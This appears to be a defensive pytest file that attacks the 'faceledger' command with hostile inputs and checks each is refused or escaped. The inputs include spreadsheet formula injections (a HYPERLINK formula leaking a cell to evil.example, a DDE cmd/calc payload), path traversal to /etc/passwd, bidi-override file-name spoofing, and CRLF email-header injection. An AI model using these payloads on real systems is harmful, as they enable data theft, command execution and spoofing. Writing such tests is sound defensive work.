"""A careless user and an attacker on the real `faceledger` command: spreadsheet formulas, control characters,
file names that are not UTF-8 or not file names at all, numbers and escapes JSON allows but nothing can hold,
devices given as files, a slow or looping update server on 127.0.0.1, and file permissions.

Each command is a subprocess (tests/e2e's CLI runner): a clear message, never a traceback or "internal error"
(exit 70), and nothing lost. Every loop is bounded; the slow server stops by itself."""

from __future__ import annotations

import csv
import http.server
import json
import os
import socketserver
import stat
import sys
import threading
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from e2e.test_bad_input import CLI, FACTS, Run  # noqa: E402

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
GBK = os.fsdecode("测试证据.jpg".encode("gbk"))  # a GBK name from a Windows ZIP, as Linux hands it over


@pytest.fixture
def cli(fl_home, tmp_path) -> CLI:
    c = CLI(fl_home, tmp_path)
    c("vault", "init")
    return c


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _no_formula(cells: list[list[str]]) -> list[str]:
    return [c for row in cells for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# ---------------------------------------------------------------- CSV formula injection

def test_letters_batch_index_and_file_names_are_safe(cli, tmp_path):
    header = "sender_name,sender_email,holder_name,holder_category,collection_date,context,consent,alternative_offered,reference\n"
    rows = [f'李明,l@example.com,"{h}",retail,2024-03-05,entry,none,no,R-{i}' for i, h in
            enumerate(f.replace('"', '""') for f in FORMULAS)]
    refs = ["../../etc/passwd", "CON", "a/b\\c:d*e?f", "x" * 400, "NUL.txt", " .. "]
    rows += [f"王芳,w@example.com,某店,retail,2024-03-05,entry,none,no,{r}" for r in refs]
    src = tmp_path / "people.csv"
    src.write_text(header + "\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    cli("letters", "batch", str(src), "--type", "deletion", "--format", "txt", "--out", str(out))
    index = _cells(out / "index.csv")
    assert not _no_formula(index), _no_formula(index)
    holders = [r[4] for r in index[1:len(FORMULAS) + 1]]
    assert all(h.startswith("'") for h in holders[:4]) and "HYPERLINK" in holders[0]  # (the reader strips tab, CR)
    files = sorted(p.name for p in out.iterdir())
    assert len(files) == len(rows) + 1  # every letter, inside the folder, plus the index
    for name in files:
        assert len(name.encode()) < 200 and "/" not in name and "\\" not in name and ":" not in name
        stem = name.split("_", 1)[-1].split(".")[0].upper()
        assert stem not in ("CON", "NUL", "PRN", "AUX")
    assert not (tmp_path / "etc").exists()


def test_batch_reference_with_nul_is_a_clear_error(cli, tmp_path):
    src = tmp_path / "nul.csv"
    src.write_bytes(b"sender_name,sender_email,holder_name,holder_category,collection_date,context,consent,"
                    b"alternative_offered,reference\nA,a@example.com,B,retail,2024-03-05,entry,none,no,R\x00X\n")
    r = cli("letters", "batch", str(src), "--type", "deletion", "--format", "txt", "--out", str(tmp_path / "o"),
            rc=None)
    assert r.returncode != 70 and not r.problems()


def test_exhibit_list_csv_in_the_bundle_is_safe(cli, tmp_path):
    import zipfile

    case = cli("evidence", "case", "new", "=cmd|' /C calc'!A0").out.strip()
    for i, title in enumerate(FORMULAS[:4]):
        (tmp_path / f"x{i}.txt").write_text(str(i))
        cli("evidence", "add", case, f"--title={title}", "--kind", "note", "--occurred", "2026-01-05",
            "--file", str(tmp_path / f"x{i}.txt"), "--source", "@evil", "--description=-1+1")
    bundle = tmp_path / "b.zip"
    cli("evidence", "export", case, "-o", str(bundle))
    with zipfile.ZipFile(bundle) as zf:
        text = zf.read("exhibit-list.csv").decode("utf-8-sig")
    cells = list(csv.reader(text.splitlines()))
    assert len(cells) == 5 and not _no_formula(cells), _no_formula(cells)
    assert any(c == "'" + FORMULAS[0] for row in cells for c in row)


# ---------------------------------------------------------------- control characters and bytes

def test_control_characters_are_refused_or_escaped(cli, tmp_path):
    case = cli("evidence", "case", "new", "某案").out.strip()
    cli.all([
        Run(("evidence", "case", "new", "x\x1b[8mhidden"), 2, "control character"),
        Run(("evidence", "add", case, "--title", "photo\u202egpj.exe", "--kind", "note", "--occurred", "2026-01-05"),
            2, "\\u202e"),
        Run(("evidence", "add", case, "--title", "a\nsigning key SHA-256: 00", "--kind", "note",
             "--occurred", "2026-01-05"), 2, "line break"),
        Run(("evidence", "add", case, "--title", os.fsdecode(b"\xb2\xe2\xca\xd4"), "--kind", "note",
             "--occurred", "2026-01-05"), 2, "not valid UTF-8"),
        Run(("holder", "add", "--name", os.fsdecode(b"\xc4\xb3\xb5\xea"), "--category", "retail"), 2,
            "not valid UTF-8"),
        Run(("evidence", "case", "new", os.fsdecode(b"\xff\xfe")), 2, "not valid UTF-8"),
    ])
    listed = cli("evidence", "list", case)
    assert "\x1b" not in listed.out and "\u202e" not in listed.out
    assert cli("evidence", "list", case, "--json").out.encode("utf-8")


def test_error_texts_are_bounded_and_escaped(cli, tmp_path):
    big = tmp_path / "big.json"
    big.write_text(json.dumps({"format": "faceledger-directory", "version": 1,
                               "holders": [{"name_zh": "某" * 50_000_000, "category": "\x1b[31mretail"}]}),
                   encoding="utf-8")
    r = cli("directory", "import", str(big), rc=None)
    assert r.returncode not in (0, 70) and not r.problems()
    assert len(r.err) < 20_000 and "\x1b" not in r.err


def test_non_utf8_exhibit_file_names_work_end_to_end(cli, tmp_path):
    f = tmp_path / GBK
    f.write_bytes(b"\xff\xd8\xff" + os.urandom(2000))
    case = cli("evidence", "case", "new", "文件名").out.strip()
    cli("evidence", "add", case, "--title", "门禁照片", "--kind", "photo_video", "--occurred", "2026-01-05",
        "--file", str(f))
    listed = json.loads(cli("evidence", "list", case, "--json").out)
    name = listed["entries"][0]["exhibits"][0]["filename"]
    from faceledger.safetext import display_path

    assert name == display_path(GBK) and name.startswith("\\xb2\\xe2\\xca\\xd4")  # bytes shown, not lost
    bundle = tmp_path / "b.zip"
    cli("evidence", "export", case, "-o", str(bundle))
    assert cli("evidence", "verify", str(bundle), stream="out").out.splitlines()[1].startswith("OK")


# ---------------------------------------------------------------- JSON numbers and escapes

def test_huge_numbers_and_lone_surrogates_in_json(cli, tmp_path):
    digits = "9" * 5000
    exp = tmp_path / "ledger.json"
    cli("holder", "add", "--name", "某物业", "--category", "residential")
    cli("export", "--json", str(exp))
    raw = exp.read_text(encoding="utf-8")
    (tmp_path / "num.json").write_text(raw.replace('"version": 1', f'"version": {digits}', 1), encoding="utf-8")
    (tmp_path / "sur.json").write_text(raw.replace("某物业", "\\ud800某物业"), encoding="utf-8")
    (tmp_path / "dir-num.json").write_text('{"format": "faceledger-directory", "version": ' + digits + "}")
    (tmp_path / "dir-sur.json").write_text('{"format": "faceledger-directory", "version": 1, "holders": '
                                           '[{"name_zh": "\\udcb2", "category": "retail"}]}')
    facts = json.loads(FACTS.read_text(encoding="utf-8"))
    facts_sur = json.dumps(facts, ensure_ascii=True).replace('"sender": {', '"sender": {"address": "\\udfff", ', 1)
    (tmp_path / "facts-sur.json").write_text(facts_sur)
    (tmp_path / "facts-num.json").write_text(json.dumps(facts).replace("{", '{"n": ' + digits + ", ", 1))
    facts_bidi = json.dumps(facts, ensure_ascii=True).replace('"sender": {', '"sender": {"address": "x\\u202egpj.exe", ', 1)
    (tmp_path / "facts-bidi.json").write_text(facts_bidi)
    runs = [Run(("import", str(tmp_path / "num.json")), 2, "5,000 digits"),
            Run(("import", str(tmp_path / "sur.json")), 2, "lone surrogate"),
            Run(("directory", "import", str(tmp_path / "dir-num.json")), 2, "5,000 digits"),
            Run(("directory", "import", str(tmp_path / "dir-sur.json")), 2, "lone surrogate")]
    for fmt in ("docx", "eml", "txt"):
        runs += [Run(("letter", str(tmp_path / "facts-sur.json"), "--type", "deletion", "-o",
                      str(tmp_path / f"l.{fmt}")), 2, "lone surrogate"),
                 Run(("letter", str(tmp_path / "facts-num.json"), "--type", "deletion", "-o",
                      str(tmp_path / f"n.{fmt}")), 2, "5,000 digits"),
                 Run(("letter", str(tmp_path / "facts-bidi.json"), "--type", "deletion", "-o",
                      str(tmp_path / f"b.{fmt}")), 2, "\\u202e")]
    cli.all(runs)
    assert not list(tmp_path.glob("l.*")) and not list(tmp_path.glob("n.*")) and not list(tmp_path.glob("b.*"))


def test_crlf_in_names_or_reference_never_makes_an_eml_header(cli, tmp_path):
    facts = json.loads(FACTS.read_text(encoding="utf-8"))
    facts["sender"]["name"] = "李明\r\nBcc: everyone@example.com"
    (tmp_path / "f.json").write_text(json.dumps(facts, ensure_ascii=False), encoding="utf-8")
    cli.all([Run(("letter", str(tmp_path / "f.json"), "--type", "deletion", "-o", str(tmp_path / "a.eml")), None),
             Run(("letter", str(FACTS), "--type", "deletion", "-o", str(tmp_path / "b.eml"), "--reference",
                  "FL-1\r\nBcc: everyone@example.com"), 2, "")])
    for f in tmp_path.glob("*.eml"):
        assert b"\nBcc:" not in f.read_bytes()


# ---------------------------------------------------------------- devices, permissions, orphans

def test_passphrase_file_dev_zero_is_refused_at_once(cli):
    t = time.monotonic()
    r = cli("vault", "info", "--passphrase-file", "/dev/zero", rc=1, says="64 KiB")
    assert time.monotonic() - t < 10 and not r.problems()


def test_files_and_folders_are_private(cli, fl_home, tmp_path):
    case = cli("evidence", "case", "new", "某客户").out.strip()
    (tmp_path / "e.txt").write_text("x")
    cli("evidence", "add", case, "--title", "t", "--kind", "note", "--occurred", "2026-01-05", "--file",
        str(tmp_path / "e.txt"))
    cli("evidence", "export", case, "-o", str(tmp_path / "b.zip"))
    loose = []
    for p in [fl_home / "vaults", *(fl_home / "vaults").rglob("*"), tmp_path / "b.zip"]:
        mode = stat.S_IMODE(p.stat().st_mode)
        if mode & 0o077:
            loose.append(f"{p}: {oct(mode)}")
    assert not loose, loose


def test_orphans_of_an_interrupted_add_are_removed(vault, tmp_path):
    from faceledger.evidence import store
    from faceledger.evidence.model import ExhibitSource, NewEntry

    case = store.create_case(vault, "c")
    (tmp_path / "a.bin").write_bytes(os.urandom(100_000))
    store.add_entry(vault, case, NewEntry(kind="note", title="kept", occurred_at="2026-01-01",
                                          exhibits=[ExhibitSource(str(tmp_path / "a.bin"))]))
    # what a kill -9 between the two steps of `evidence add` leaves: a stored blob no entry cites, and a .tmp
    orphan = vault.add_blob(os.urandom(50_000), filename="orphan.bin")
    tmp = vault.blobs.path(orphan["id"]).with_name(".deadbeef.tmp")
    tmp.write_bytes(b"half written")
    assert vault.remove_orphans() == 0  # too recent: another process may be between the two steps
    assert vault.remove_orphans(older_than_s=-1) == 1 and vault.blobs.remove_leftovers(older_than_s=-1) == 1
    assert not vault.blobs.exists(orphan["id"]) and not tmp.exists()
    assert store.list_entries(vault, case)[0].exhibits[0].blob_id  # the cited one stays
    assert vault.query("SELECT count(*) FROM blobs")[0][0] == 1


# ---------------------------------------------------------------- a slow and a looping update server

class _Server(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


@pytest.fixture
def slow_server():
    stop = threading.Event()

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def do_GET(self):  # noqa: N802
            if self.path.startswith("/loop"):
                self.send_response(302)
                self.send_header("Location", self.path)
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("Content-Length", "100000")
            self.end_headers()
            for _ in range(200):  # one byte every 0.5 s, at most 100 s; stops when the test ends
                if stop.is_set():
                    return
                try:
                    self.wfile.write(b"x")
                    self.wfile.flush()
                except OSError:
                    return
                time.sleep(0.5)

    srv = _Server(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{srv.server_address[1]}"
    stop.set()
    srv.shutdown()
    srv.server_close()


def test_update_check_has_an_overall_deadline(slow_server):
    from faceledger.net.http import NetworkError
    from faceledger.net.update import check_for_update

    t = time.monotonic()
    with pytest.raises(NetworkError) as err:
        check_for_update(slow_server + "/manifest.json", deadline=2.0)
    took = time.monotonic() - t
    assert took < 5, took
    assert "within 2 seconds" in err.value.full() and "秒内" in err.value.full_in("zh")


def test_redirect_loop_is_named_as_such(slow_server, fl_home, tmp_path):
    c = CLI(fl_home, tmp_path)
    r = c("update-check", "--url", slow_server + "/loop/manifest.json", rc=None)
    assert r.returncode not in (0, 70) and "redirects in a loop" in r.err and "Could not connect" not in r.err
